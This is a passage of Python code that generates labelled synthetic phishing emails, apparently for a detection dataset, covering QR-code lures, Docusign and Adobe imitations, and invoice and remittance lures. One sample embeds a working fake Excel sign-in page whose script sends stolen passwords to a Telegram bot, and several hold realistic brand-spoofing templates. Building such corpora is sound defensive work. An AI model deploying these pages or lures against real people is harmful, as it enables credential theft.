        attachment("text/html", "VM_Playback_OwenDavies_0047.htm", htm.encode()),
    ])
    emit(stem, "phishing", "Voicemail notification from a compromised US contractor's Exchange Online mailbox carrying an .htm "
         "'audio playback' attachment whose script redirects to a SharePoint-themed credential page with the victim's "
         "address appended.", message(join(top, o["pre"], o["hdrs"], bottom), body))


def qr_pdf(lines: list[str], url: str, title: str, producer: str = "Microsoft: Print To PDF",
           qr_at: tuple[int, int] = (200, 430), scale: int = 4) -> bytes:
    """One-page PDF with text lines and a QR code image (the quishing layout)."""
    import segno

    matrix = segno.make(url, error="m", micro=False).matrix
    border = 4
    size = (len(matrix) + 2 * border) * scale
    rows = []
    for y in range(size):
        my = y // scale - border
        row = bytearray()
        for x in range(size):
            mx = x // scale - border
            dark = 0 <= my < len(matrix) and 0 <= mx < len(matrix) and matrix[my][mx]
            row.append(0 if dark else 255)
        rows.append(bytes(row))
    image = zlib.compress(b"".join(rows), 9)
    esc_ = lambda s: s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")  # noqa: E731
    content = ["BT", "/F1 11 Tf", "15 TL", "60 780 Td"]
    for line in lines:
        content.append(f"({esc_(line)}) Tj T*")
    content.append("ET")
    content.append(f"q {size} 0 0 {size} {qr_at[0]} {qr_at[1]} cm /Im1 Do Q")
    stream = "\n".join(content).encode("latin-1")
    objects = F.image_page(stream, image, size, size, "FlateDecode")
    objects.append(f"<< /Title ({esc_(title)}) /Producer ({esc_(producer)}) /CreationDate (D:20250101090000Z) >>".encode())
    return F.pdf_file(objects, 7)


def vps_postfix_hop(dom: str, rcpt: str, t: datetime, seed: str, client: str = "localhost [127.0.0.1]") -> str:
    return (f"Received: from {client.split(' ')[0]} ({client})\n\tby mail.{dom} (Postfix) with ESMTPSA id "
            f"{alnum(seed + 'vq', 11, 'ABCDEF0123456789')}\n\tfor <{rcpt}>; {rfc(t)}")


@build
def phish_quishing_pdf_mfa():
    stem = "b46-phish-quishing-pdf-mfa"
    rcpt = f"eclarke@{AU}"
    dom = "hpeng-au.com"
    t = T("2025-08-05 22:31:10")
    ip, helo, rdns = "141.98.11.203", f"mail.{dom}", "srv203.hostkey-vps.net"
    auth = Auth("pass", f"it-support@{dom}", [("pass", dom, "default")], "none", dom)
    top = postfix_in(rcpt, stem, t, ip, helo, rdns, auth, spam="2.4")
    url = f"https://hpeng.auth-m365verify.com/mfa/?u={base64.b64encode(rcpt.encode()).decode()}"
    pdf = qr_pdf([
        "Hartwell Pryce Engineering - IT Services",
        "",
        "MULTI-FACTOR AUTHENTICATION RESET REQUIRED",
        "",
        f"Account: {rcpt}",
        "Reference: MFA-AU-2025-08-0412",
        "",
        "Our records show your Microsoft Authenticator registration expires on 07/08/2025.",
        "To avoid losing access to Outlook, Teams and SharePoint, scan the QR code below",
        "with your mobile phone camera and follow the prompts to re-verify your device.",
        "",
        "Note: this must be completed on a mobile device. Desktop browsers are not supported.",
    ], url, "MFA Reset Notice")
    html = ("<html><body style=\"font-family:Calibri,Arial,sans-serif;font-size:11pt;\">"
            "<p>Hi Emma,</p><p>Please review the attached notice regarding your Microsoft 365 multi-factor authentication "
            "and complete the steps before <b>7 August 2025</b>.</p>"
            "<p>Regards,<br>IT Services<br>Hartwell Pryce Engineering</p></body></html>\n")
    plain = ("Hi Emma,\n\nPlease review the attached notice regarding your Microsoft 365 multi-factor authentication and "
             "complete the steps before 7 August 2025.\n\nRegards,\nIT Services\nHartwell Pryce Engineering\n")
    bnd = "=_" + hx(stem + "bnd", 32)
    hdr = join(top,
               dkim(dom, "default", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", stem, t),
               vps_postfix_hop(dom, rcpt, t, stem, "[91.92.243.18] (unknown [91.92.243.18])"),
               "MIME-Version: 1.0",
               f"Date: {rfc(t, 'Australia/Sydney')}",
               f"From: IT Services <it-support@{dom}>",
               f"To: {rcpt}",
               "Subject: Action required: MFA reset notice for eclarke",
               f"Message-ID: <{hx(stem + 'mid', 32)}@{dom}>",
               "User-Agent: Roundcube Webmail/1.6.6")
    body = Multi("mixed", bnd, [
        Multi("alternative", "=_" + hx(stem + "bnd2", 32), [tleaf(plain, "plain", "quoted-printable", "utf-8", "UTF-8"),
                                                            tleaf(html, "html", "quoted-printable", "utf-8", "UTF-8")]),
        attachment("application/pdf", "MFA_Reset_Notice_eclarke.pdf", pdf),
    ])
    emit(stem, "phishing", "Quishing: IT-services MFA reset notice from the look-alike domain hpeng-au.com sent via Roundcube, "
         "with a PDF whose only call to action is a QR code to a Microsoft 365 credential kit.", message(hdr, body))


@build
def phish_quishing_body_onmicrosoft():
    stem = "b46-phish-quishing-body-onmicrosoft"
    rcpt = f"nhassan@{CA}"
    t = T("2025-03-11 13:52:18")
    sender = "docs@ctrlhub447.onmicrosoft.com"
    o = m365_out("Docusign", sender, rcpt, "Complete with Docusign: Q2 Compensation Adjustment - Nadia Hassan", t, stem,
                 "us")
    auth = Auth("pass", sender, [("pass", "ctrlhub447.onmicrosoft.com", "selector1")], "pass",
                "ctrlhub447.onmicrosoft.com", "none")
    top = gmail_in(rcpt, stem, o["t_out"], o["ip"], o["helo"], o["rdns"], auth)
    url = "https://docusign.esign-review.top/?e=" + base64.b64encode(rcpt.encode()).decode()
    png = F.qr_png(url)
    cid = f"image001.png@01DB{hx(stem + 'cid', 4, True)}.{hx(stem + 'cid2', 8, True)}"
    html = f"""<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
</head>
<body>
<table width="100%" cellpadding="0" cellspacing="0" style="background:#eaeaea;"><tr><td align="center" style="padding:20px;">
<table width="560" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Helvetica,Arial,sans-serif;">
<tr><td style="padding:22px 24px;"><span style="font-size:22px;font-weight:bold;color:#000;">docusign</span></td></tr>
<tr><td style="background:#1e4ca1;padding:30px 24px;color:#ffffff;text-align:center;font-size:16px;">
Human Resources sent you a document to review and sign.</td></tr>
<tr><td style="padding:24px;font-size:15px;color:#333;text-align:center;">
<b>Q2 Compensation Adjustment - Nadia Hassan.pdf</b><br><br>
Scan the QR code below with your phone's camera to review and sign securely.<br><br>
<img src="cid:{cid}" width="180" height="180" alt="QR"><br><br>
<span style="font-size:12px;color:#666;">This document will expire in 24 hours.</span></td></tr>
<tr><td style="padding:18px 24px;font-size:11px;color:#666;background:#f4f4f4;">Do Not Share This Email<br>
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.</td></tr>
</table></td></tr></table>
</body>
</html>
"""
    plain = ("Human Resources sent you a document to review and sign.\n\nQ2 Compensation Adjustment - Nadia Hassan.pdf\n\n"
             "Scan the QR code below with your phone's camera to review and sign securely.\n\nThis document will expire in "
             "24 hours.\n")
    body = Multi("related", o["relbnd"], [
        Multi("alternative", o["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "us-ascii"),
                                       tleaf(html, "html", "quoted-printable", "utf-8", "us-ascii")]),
        attachment("image/png", "image001.png", png, inline=True, cid=cid),
    ], params=' type="multipart/alternative";')
    emit(stem, "phishing", "Quishing in the body: Docusign-branded 'compensation adjustment' request sent from a throwaway "
         "onmicrosoft.com tenant (authentication aligned with that tenant), the only link being an inline QR code to a "
         "credential page.", message(join(top, o["pre"], o["hdrs"]), body))


@build
def phish_docusign_lookalike():
    stem = "b46-phish-docusign-lookalike"
    rcpt = f"mwebb@{USU}"
    dom = "docsign-envelopes.com"
    t = T("2024-10-15 19:11:40")
    ip, helo, rdns = "104.234.140.77", f"mta1.{dom}", "vm140-77.cloudvps-us.net"
    auth = Auth("pass", f"bounces@{dom}", [("pass", dom, "k1")], "none", dom)
    top, bottom = m365_in("usu", stem, later(t, 2), ip, helo, rdns, auth, ctry="US")
    red = ("https://gaylordbaptistchurch.org/wp-content/themes/twentytwenty/redir.php?r=" +
           base64.urlsafe_b64encode(b"https://lakemont-edu.docsign-envelopes.com/s/?env=" + hx(stem + "e", 16).encode()).decode())
    env = uid(stem + "env").upper()
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="padding:0;margin:0;background:#eaeaea;">
<table border="0" width="100%" cellspacing="0" cellpadding="0" style="background:#eaeaea;"><tr><td style="padding:2%;">
<table align="center" border="0" cellspacing="0" cellpadding="0" width="100%" style="max-width:640px;background:#fff;">
<tr><td style="padding:10px 24px;"><img src="https://docucdn-a.akamaihd.net/olive/images/2.62.0/global-assets/email-templates/email-logo.png" alt="DocuSign" width="116" style="border:none"></td></tr>
<tr><td style="padding:0 24px 30px 24px;"><table width="100%" style="background:#1e4ca1;color:#fff;"><tr><td align="center" style="padding:28px 24px;font-family:Helvetica,Arial,sans-serif;">
<div style="font-size:16px;">Lakemont University Procurement sent you a document to review and sign.</div>
<table cellspacing="0" cellpadding="0" style="margin-top:28px;"><tr><td align="center" style="background:#ffc423;border-radius:2px;padding:0 24px;">
<a href="{red}" style="font-size:15px;color:#333;text-decoration:none;font-weight:bold;line-height:44px;display:block;">REVIEW DOCUMENT</a></td></tr></table>
</td></tr></table></td></tr>
<tr><td style="padding:0 24px 24px 24px;font-family:Helvetica,Arial,sans-serif;font-size:15px;color:#333;">
<b>Procurement Services</b><br><span style="color:#666;">procurement@lakemont.edu</span><br><br>
Please review and sign the FY25 Facilities Maintenance Contract Renewal at your earliest convenience.<br><br>Thank you,<br>Procurement Services</td></tr>
<tr><td style="padding:0 24px 12px 24px;background:#fff;font-family:Helvetica,Arial,sans-serif;font-size:11px;color:#666;">
<b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br><br>
If you have trouble signing, visit "<a href="{red}" style="color:#2463d1;">How to Sign a Document</a>" on our Docusign Support Center.<br><br>
This message was sent to you by Procurement Services who is using the DocuSign Electronic Signature Service.</td></tr>
</table></td></tr></table>
</body></html>
"""
    plain = (f"Lakemont University Procurement sent you a document to review and sign.\n\nREVIEW DOCUMENT: {red}\n\n"
             "Procurement Services\nprocurement@lakemont.edu\n\nPlease review and sign the FY25 Facilities Maintenance Contract "
             "Renewal at your earliest convenience.\n")
    hdr = join(top,
               dkim(dom, "k1", "from:to:subject:date:message-id:reply-to:mime-version:content-type", stem, t),
               f"Received: from localhost (localhost [127.0.0.1])\n\tby {helo} (Postfix) with ESMTP id "
               f"{alnum(stem + 'pq', 10, 'ABCDEF0123456789')}\n\tfor <{rcpt}>; {rfc(t)}",
               f'From: "Procurement Services via Docusign" <dse_na4@{dom}>',
               f"Reply-To: Procurement Services <procurement@{dom}>",
               f"To: Marcus Webb <{rcpt}>",
               "Subject: Complete with Docusign: Lakemont_FY25_Facilities_Contract_Renewal.pdf",
               f"Date: {rfc(t)}",
               f"Message-ID: <{env.lower()}@{dom}>",
               "MIME-Version: 1.0",
               f"X-Envelope-Id: {env}", bottom)
    body = alt(stem, plain, html, bnd="----=_NextPart_" + hx(stem + "nb", 24))
    emit(stem, "phishing", "Docusign envelope imitation ('Complete with Docusign' for a facilities contract) from a typo-squat "
         "e-signature domain, the Review Document button going through a redirect script on a compromised church "
         "WordPress site to an AiTM page.", message(hdr, body))


def docusign_html(sender_name: str, sender_mail: str, message_text: str, link: str,
                  action: str = "sent you a document to review and sign.", button: str = "REVIEW DOCUMENT") -> str:
    return f"""<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="viewport" content="width=device-width, initial-scale=1.0"></head>
<body style="padding:0;margin:0;background-color:#eaeaea;">
<table border="0" width="100%" cellspacing="0" cellpadding="0" role="presentation" style="background-color:#eaeaea;"><tr><td></td><td width="640">
<table border="0" cellspacing="0" cellpadding="0" role="presentation" style="border-collapse:collapse;background-color:#ffffff;max-width:640px;">
<tr><td style="padding:10px 24px;"><img src="https://docucdn-a.akamaihd.net/olive/images/2.99.0/global-assets/email-templates/email-logo.png" alt="Docusign" width="116" style="border:none;"></td></tr>
<tr><td style="padding:0 24px 30px 24px;"><table role="presentation" border="0" cellspacing="0" cellpadding="0" width="100%" align="center" style="background-color:#1e4ca1;color:#ffffff;">
<tr><td align="center" style="padding:28px 36px 36px 36px;border-radius:2px;background-color:#1e4ca1;color:#ffffff;font-size:16px;font-family:Helvetica,Arial,Sans Serif;width:100%;text-align:center;">
<img width="75" height="75" src="https://na3.docusign.net/Member/Images/email/docInvite-white.png" style="width:75px;height:75px;" alt=""><br>
<table border="0" cellspacing="0" cellpadding="0" role="presentation" width="100%"><tr><td style="padding-top:24px;font-size:16px;font-family:Helvetica,Arial,Sans Serif;border:none;text-align:center;color:#ffffff;">
{esc(sender_name)} {action}</td></tr></table>
<table border="0" cellspacing="0" cellpadding="0" role="presentation" width="100%"><tr><td align="center" style="padding-top:30px;">
<div><table cellspacing="0" cellpadding="0"><tr><td align="center" height="44" style="font-size:15px;color:#333333;background-color:#ffc423;font-family:Helvetica,Arial,Sans Serif;font-weight:bold;text-align:center;text-decoration:none;border-radius:2px;background-color:#ffc423;display:block;">
<a href="{link}" style="font-size:15px;color:#333333;background-color:#ffc423;font-family:Helvetica,Arial,Sans Serif;font-weight:bold;text-align:center;text-decoration:none;border-radius:2px;background-color:#ffc423;display:inline-block;"><span style="padding:0px 24px;line-height:44px;">{button}</span></a>
</td></tr></table></div></td></tr></table>
</td></tr></table></td></tr>
<tr><td style="padding:0px 24px 24px 24px;color:#000000;font-size:16px;font-family:Helvetica,Arial,Sans Serif;background-color:white;">
<table role="presentation" border="0" cellspacing="0" cellpadding="0"><tr><td style="padding-bottom:20px;">
<div style="font-family:Helvetica,Arial,Sans Serif;font-weight:bold;line-height:18px;font-size:15px;color:#333333;">{esc(sender_name)}</div>
<div style="font-family:Helvetica,Arial,Sans Serif;line-height:18px;font-size:15px;color:#666666;"><a href="mailto:{sender_mail}" style="color:#2463d1;">{sender_mail}</a></div>
</td></tr></table>
<span style="font-size:15px;color:#333333;font-family:Helvetica,Arial,Sans Serif;line-height:20px;">{message_text}</span><br><br>
</td></tr>
<tr><td style="padding:0px 24px 12px 24px;background-color:#ffffff;font-family:Helvetica,Arial,Sans Serif;font-size:11px;color:#666666;">
<b role="heading" aria-level="3">Do Not Share This Email</b><br>
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b role="heading" aria-level="3">Alternate Signing Method</b><br>
Visit Docusign.com, click 'Access Documents', and enter the security code:<br>{hx(link, 32, True)}1<br><br>
<b role="heading" aria-level="3">About Docusign</b><br>
Sign documents electronically in just minutes. It's safe, secure, and legally binding. Whether you're in an office, at home, on-the-go -- or even across the globe -- Docusign provides a professional trusted solution for Digital Transaction Management&trade;.<br><br>
<b role="heading" aria-level="3">Questions about the Document?</b><br>
If you need to modify the document or have questions about the details in the document, please reach out to the sender by emailing them directly.<br><br>
<b role="heading" aria-level="3">Stop receiving this email</b><br>
<a href="https://protect.docusign.net/report-abuse?e=AUtomjp{hx(link + 'ra', 40)}&amp;lang=en" style="color:#2463d1;">Report this email</a> or read more about <a href="https://support.docusign.com/s/articles/How-do-I-decline-to-sign-a-document-Signer-Guide" style="color:#2463d1;">Declining to sign</a> and <a href="https://support.docusign.com/s/articles/How-do-I-manage-my-email-notifications" style="color:#2463d1;">Managing notifications</a>.<br><br>
If you have trouble signing, visit "<a href="https://support.docusign.com/s/articles/How-do-I-sign-a-DocuSign-document-Basic-Signing" style="color:#2463d1;">How to Sign a Document</a>" on our <a href="https://support.docusign.com/" style="color:#2463d1;">Docusign Support Center</a>, or browse our <a href="https://community.docusign.com/signing-7" style="color:#2463d1;">Docusign Community</a> for more information.<br><br>
<a href="https://play.google.com/store/apps/details?id=com.docusign.ink&amp;utm_source=docusign&amp;utm_medium=email" style="color:#2463d1;">Download the Docusign App</a><br><br>
This message was sent to you by {esc(sender_name)} who is using the Docusign Electronic Signature Service. If you would rather not receive email from this sender you may contact the sender with your request.
</td></tr></table></td><td></td></tr></table>
</body></html>
"""


def docusign_plain(sender_name: str, sender_mail: str, message_text: str, link: str,
                   action: str = "sent you a document to review and sign.") -> str:
    import re
    msg = re.sub(r"<br\s*/?>", "\n", message_text)
    return (f"{sender_name} {action}\n\n{sender_name}\n{sender_mail}\n\n{msg}\n\nPlease go to the link below to view "
            f"the document:\n\n{link}\n\nDo Not Share This Email\nThis email contains a secure link to Docusign. Please do "
            "not share this email, link, or access code with others.\n\nQuestions about the Document?\nIf you need to "
            "modify the document or have questions about the details in the document, please reach out to the sender by "
            "emailing them directly.\n")


def docusign_sent(t: datetime, seed: str, pod: str = "NA3") -> dict:
    ip = f"64.207.219.{num(seed + 'dsip', 70, 140)}"
    return dict(ip=ip, helo=f"mailch{num(seed + 'dsh', 1, 4)}.docusign.net", rdns=f"mailch{num(seed + 'dsh', 1, 4)}.docusign.net",
                auth_mailfrom=f"dse_{pod}@docusign.net",
                dk=dkim("docusign.net", "s1", "From:Reply-To:To:Subject:Date:Message-ID:MIME-Version:Content-Type",
                        seed + "dsdk", t))


@build
def phish_docusign_genuine_envelope():
    stem = "b46-phish-docusign-genuine-envelope"
    rcpt = f"sarah.whitfield@{UKHA}"
    t = T("2025-11-24 11:02:53")
    ds = docusign_sent(t, stem)
    auth = Auth("pass", ds["auth_mailfrom"], [("pass", "docusign.net", "s1")], "pass", "docusign.net", "reject")
    top, bottom = m365_in("ukha", stem, later(t, 2), ds["ip"], ds["helo"], ds["rdns"], auth, ctry="US")
    link = (f"https://na3.docusign.net/Signing/EmailStart.aspx?a={uid(stem + 'a')}&etti=24&acct={uid(stem + 'acct')}"
            f"&er={uid(stem + 'er')}")
    who, mail = "Payments Team | Castlebrook Build Ltd", "castlebrook.payments@outlook.com"
    text_ = ("Hello,<br><br>Please find the remittance advice for the payment released to Severn Vale Homes today. "
             "Kindly review and sign to confirm receipt so the funds can be reconciled.<br><br>Regards,<br>Payments Team")
    html = docusign_html(who, mail, text_, link)
    plain = docusign_plain(who, mail, text_, link)
    hdr = join(top, ds["dk"],
               f"X-DocuSign-Envelope-Id: {uid(stem + 'envid').upper()}",
               f'From: "{who} via Docusign" <{ds["auth_mailfrom"]}>',
               f'Reply-To: "{who}" <{mail}>',
               f"To: Sarah Whitfield <{rcpt}>",
               "Subject: Please DocuSign: SVH_Remittance_Advice_24-11-2025.pdf",
               f"Date: {rfc(t)}",
               f"Message-ID: <{hx(stem + 'mid', 32)}@docusign.net>",
               "MIME-Version: 1.0",
               "X-Auto-Response-Suppress: All", bottom)
    body = alt(stem, plain, html, bnd="----=_Part_" + digits(stem + "p", 8) + "_" + digits(stem + "p2", 9) + "." + str(unix(t)) + "123")
    emit(stem, "phishing", "Genuine Docusign envelope (docusign.net passes SPF/DKIM/DMARC) created by a free account "
         "posing as a contractor's payments team with an outlook.com reply address: a 'remittance advice' to sign whose "
         "document leads on to a credential page.", message(hdr, body))


@build
def phish_adobe_express_sign():
    stem = "b46-phish-adobe-express-sign"
    rcpt = f"rpatel@{AU}"
    t = T("2025-05-19 01:44:26")
    sender = "studio@lumenarchitects.com.au"
    g = google_out(sender, AU, t, stem)
    auth = Auth("pass", sender, g["sigs"], "pass", "lumenarchitects.com.au", "none")
    top = postfix_in(rcpt, stem, g["t_out"], g["ip"], g["helo"], g["rdns"], auth)
    link = f"https://new.express.adobe.com/webpage/{alnum(stem + 'ax', 5)}{alnum(stem + 'ax2', 5)}"
    html = gmail_html([
        "Hi Ravi,", "",
        "Lumen Architects has sent you a document for review and electronic signature via Adobe Acrobat Sign.", "",
        "<b>Document:</b> HPE_Fee_Proposal_RevC_Structural_Services.pdf<br><b>Pages:</b> 6<br><b>Due:</b> 21 May 2025", "",
        f'<a href="{link}" target="_blank">Review and sign document</a>', "",
        "Kind regards,"],
        ["<b>Jessica Tran</b>", "Studio Manager | Lumen Architects", "Level 2, 88 Cubitt St, Richmond VIC 3121",
         "P 03 9428 5510"])
    plain = plain_from([
        "Hi Ravi,", "", "Lumen Architects has sent you a document for review and electronic signature via Adobe Acrobat Sign.",
        "", "Document: HPE_Fee_Proposal_RevC_Structural_Services.pdf<br>Pages: 6<br>Due: 21 May 2025", "",
        f'<a href="{link}">Review and sign document</a>', "", "Kind regards,"],
        ["-- ", "Jessica Tran", "Studio Manager | Lumen Architects", "Level 2, 88 Cubitt St, Richmond VIC 3121",
         "P 03 9428 5510"])
    hdr = join(top, g["pre"],
               "MIME-Version: 1.0",
               f"From: Jessica Tran <{sender}>",
               f"Date: {rfc(t, 'Australia/Melbourne')}",
               f"Message-ID: {g['msgid']}",
               "Subject: Fee Proposal Rev C - please review & sign",
               f"To: Ravi Patel <{rcpt}>")
    body = Multi("alternative", g["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "UTF-8"),
                                          tleaf(html, "html", "quoted-printable", "utf-8", "UTF-8")])
    emit(stem, "phishing", "Compromised Google Workspace mailbox of an architecture practice sends an 'Adobe Acrobat Sign' "
         "fee proposal whose link is a genuine Adobe Express web page hosting the button to the credential kit.",
         message(hdr, body))


@build
def phish_supplier_invoice_onenote():
    stem = "b46-phish-supplier-invoice-onenote"
    rcpt = f"bkowalski@{CA}"
    t = T("2024-11-26 16:09:12")
    sender = "accounts@westplainsjanitorial.ca"
    o = m365_out("Westplains Accounts", sender, f"Brent Kowalski <{rcpt}>", "INV-20417 / Statement - Payment Due", t,
                 stem, "ca")
    auth = Auth("pass", sender, [("pass", "westplainsjanitorial.ca", "selector1")], "pass", "westplainsjanitorial.ca",
                "none")
    top = gmail_in(rcpt, stem, o["t_out"], o["ip"], o["helo"], o["rdns"], auth)
    link = ("https://westplainsjanitorial-my.sharepoint.com/:o:/g/personal/accounts_westplainsjanitorial_ca/"
            f"E{b64url(stem + 'sp', 20)}-{b64url(stem + 'sp2', 24)}?e={alnum(stem + 'spe', 6)}")
    html = outlook_html([
        "Good afternoon Brent,", "",
        "Please see the outstanding statement and invoice INV-20417 for November cleaning services at the Regina "
        "and Moose Jaw branches. We have moved our invoicing to SharePoint so the documents can be accessed securely.", "",
        f'<a href="{link}" data-auth="NotApplicable" class="OWAAutoLink">INV-20417 Statement.one</a>', "",
        "Kindly arrange payment by end of week, the account is 35 days past due.", "",
        "Thank you,"],
        ["Westplains Janitorial Services Ltd.", "Accounts Receivable", "(306) 555-0199 | accounts@westplainsjanitorial.ca"])
    plain = plain_from([
        "Good afternoon Brent,", "",
        "Please see the outstanding statement and invoice INV-20417 for November cleaning services at the Regina and "
        "Moose Jaw branches. We have moved our invoicing to SharePoint so the documents can be accessed securely.", "",
        f'<a href="{link}">INV-20417 Statement.one</a>', "", "Kindly arrange payment by end of week, the account is 35 days past due.", "",
        "Thank you,"],
        ["Westplains Janitorial Services Ltd.", "Accounts Receivable", "(306) 555-0199 | accounts@westplainsjanitorial.ca"])
    body = Multi("alternative", o["bnd"], [tleaf(plain, "plain", "quoted-printable", "utf-8", "us-ascii"),
                                          tleaf(html, "html", "quoted-printable", "utf-8", "us-ascii")])
    emit(stem, "phishing", "Invoice lure from a supplier's compromised Microsoft 365 mailbox linking to a OneNote notebook on "
         "the supplier's own genuine SharePoint/OneDrive, which in turn carries the link to the credential kit.",
         message(join(top, o["pre"], o["hdrs"]), body))


@build
def phish_remittance_shtml_telegram():
    stem = "b46-phish-remittance-shtml"
    rcpt = f"accounts@{AU}"
    t = T("2024-09-18 02:15:40")
    dom = "rossiterlogistics.com.au"
    sender = f"payments@{dom}"
    ip = "203.31.36." + str(num(stem + "ip", 10, 250))
    rdns = f"e2i{num(stem + 'e2', 100, 700)}.smtp2go.com"
    mailfrom = f"bounce-{digits(stem + 'bn', 6)}-{digits(stem + 'bn2', 5)}@em{digits(stem + 'em', 6)}.{dom}"
    auth = Auth("pass", mailfrom, [("pass", dom, "s" + digits(stem + "sel", 6)), ("pass", "smtpservice.net", "a1-4")],
                "pass", dom, "none")
    top = postfix_in(rcpt, stem, t, ip, rdns, rdns, auth, spam="3.1")
    bot = "7" + digits(stem + "bot", 9) + ":AAH" + b64url(stem + "tok", 32)
    page = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Excel Online</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>
body{{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#e8f1ec;}}
.bg{{position:fixed;inset:0;background:url('data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=');filter:blur(6px);}}
.box{{position:relative;width:360px;margin:90px auto;background:#fff;padding:34px;box-shadow:0 2px 8px rgba(0,0,0,.3);}}
.box h2{{font-weight:600;font-size:20px;color:#217346;margin:0 0 6px 0;}}
input{{width:100%;padding:8px 4px;margin:8px 0;border:none;border-bottom:1px solid #666;font-size:15px;}}
button{{background:#217346;color:#fff;border:none;padding:9px 30px;float:right;font-size:15px;}}
</style></head>
<body><div class="bg"></div>
<div class="box"><h2>Excel</h2>
<p style="font-size:14px;">Remittance_Advice_HPE_180924.xlsx is protected.<br>Verify your email account to view this document.</p>
<form id="f" onsubmit="return s(event)">
<input type="email" id="e" value="{rcpt}" readonly>
<input type="password" id="p" placeholder="Password" required>
<p id="m" style="color:#c00;font-size:13px;display:none">Your account or password is incorrect.</p>
<button type="submit">Sign in</button>
</form></div>
<script>
var c = 0;
function s(ev){{ev.preventDefault();
 var d = "Email: " + document.getElementById("e").value + "\\nPass: " + document.getElementById("p").value + "\\nUA: " + navigator.userAgent;
 fetch("https://api.telegram.org/bot{bot}/sendMessage?chat_id=-100{digits(stem + 'chat', 10)}&text=" + encodeURIComponent(d));
 c++; document.getElementById("p").value = ""; document.getElementById("m").style.display = "block";
 if (c > 1) {{ window.location.href = "https://www.office.com/"; }}
 return false;}}
</script></body></html>
"""
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\"></head><body>"
            "<p>Hi Accounts Team,</p><p>Please find attached remittance advice for payment of your outstanding invoices "
            "made today via EFT.</p><p>Amount: AUD $48,716.20<br>Reference: RL-EFT-180924</p>"
            "<p>Kind regards,<br>Accounts Payable<br>Rossiter Logistics Pty Ltd</p></body></html>\n")
    plain = ("Hi Accounts Team,\n\nPlease find attached remittance advice for payment of your outstanding invoices made "
             "today via EFT.\n\nAmount: AUD $48,716.20\nReference: RL-EFT-180924\n\nKind regards,\nAccounts Payable\n"
             "Rossiter Logistics Pty Ltd\n")
    hdr = join(top,
               dkim("smtpservice.net", "a1-4", "Feedback-ID:Message-ID:Date:Subject:To:From:MIME-Version:Content-Type",
                    stem + "s2g", t, extra=""),
               dkim(dom, "s" + digits(stem + "sel", 6), "Feedback-ID:Message-ID:Date:Subject:To:From:MIME-Version:"
                    "Content-Type", stem + "dom", t),
               f"Received: from [10.143.{num(stem + 'a', 1, 250)}.{num(stem + 'b', 1, 250)}] (helo=SmtpCorp)\n\tby "
               f"smtpcorp.com with esmtpsa (TLS1.3:ECDHE_SECP256R1__RSA_PSS_RSAE_SHA256__AES_256_GCM:256)\n\t(Exim 4.97.1-S2G)"
               f"\n\t(envelope-from <{mailfrom}>)\n\tid 1sqm{alnum(stem + 'x', 3)}-{alnum(stem + 'x2', 6)}-{alnum(stem + 'x3', 2)}"
               f"\n\tfor {rcpt};\n\t{rfc(t)}",
               f"Received: from [192.168.1.{num(stem + 'lan', 2, 250)}]\n\tby smtpcorp.com with esmtpsa"
               f" (TLS1.3:ECDHE_X25519__RSA_PSS_RSAE_SHA256__AES_256_GCM:256)\n\t(Exim 4.97.1-S2G)\n\t(envelope-from "
               f"<{sender}>)\n\tid 1sqm{alnum(stem + 'y', 3)}-{alnum(stem + 'y2', 6)}-{alnum(stem + 'y3', 2)};\n\t"
               f"{rfc(later(t, -1))}",
               "MIME-Version: 1.0",
               f"From: Rossiter Logistics Accounts <{sender}>",
               f"To: {rcpt}",
               "Subject: Remittance Advice - EFT Payment 18/09/2024",
               f"Date: {rfc(t, 'Australia/Sydney')}",
               f"Message-ID: <{hx(stem + 'mid', 16)}${hx(stem + 'mid2', 8)}@{dom}>",
               f"Feedback-ID: {digits(stem + 'fb', 6)}m:{digits(stem + 'fb2', 6)}a{alnum(stem + 'fb3', 7)}:{digits(stem + 'fb4', 6)}s:smtp2gostatid",
               f"X-smtpcorp-track: {alnum(stem + 'tr', 12)}.{alnum(stem + 'tr2', 12)}.{alnum(stem + 'tr3', 6)}",
               "X-Report-Abuse: Please forward a copy of this message, including all headers, to <abuse-report@smtp2go.com>")
    body = Multi("mixed", "----=_NextPart_" + hx(stem + "bnd", 20), [
        alt(stem, plain, html, bnd="----=_NextPart_" + hx(stem + "bnd2", 20)),
        attachment("text/html", "Remittance_Advice_HPE_180924.shtml", page.encode()),
    ])
    emit(stem, "phishing", "Remittance-advice lure sent through SMTP2GO from a compromised logistics company's account, with "
         "an .shtml attachment that renders a fake Excel sign-in pre-filled with the victim's address and posts the "
         "password to a Telegram bot.", message(hdr, body))


def iphone_gmail(frm_name: str, frm: str, to: str, subject: str, t: datetime, seed: str, body: str, to_dom: str,
                 tz: str, ios: str = "22B91", in_reply_to: str = "", references: str = "") -> tuple[str, dict]:
    """A message from the iOS Mail app through a consumer Gmail account (plain text, 7bit)."""
    g = google_out(frm, to_dom, t, seed, workspace=False)
    mid = f"<{uid(seed + 'ios').upper()}@gmail.com>"
    lines = [g["pre"], "Content-Transfer-Encoding: 7bit", f"From: {addr(frm_name, frm)}", "Mime-Version: 1.0 (1.0)",
             f"Date: {rfc(t, tz)}", f"Subject: {subject}", f"Message-Id: {mid}"]
    if references:
        lines.append(f"References: {references}")
    if in_reply_to:
        lines.append(f"In-Reply-To: {in_reply_to}")
    lines += [f"To: {to}", f"X-Mailer: iPhone Mail ({ios})"]
    return "\n".join(lines), g


@build
def phish_payroll_direct_deposit():
    stem = "b46-phish-payroll-direct-deposit"
    rcpt = f"payroll@{USU}"
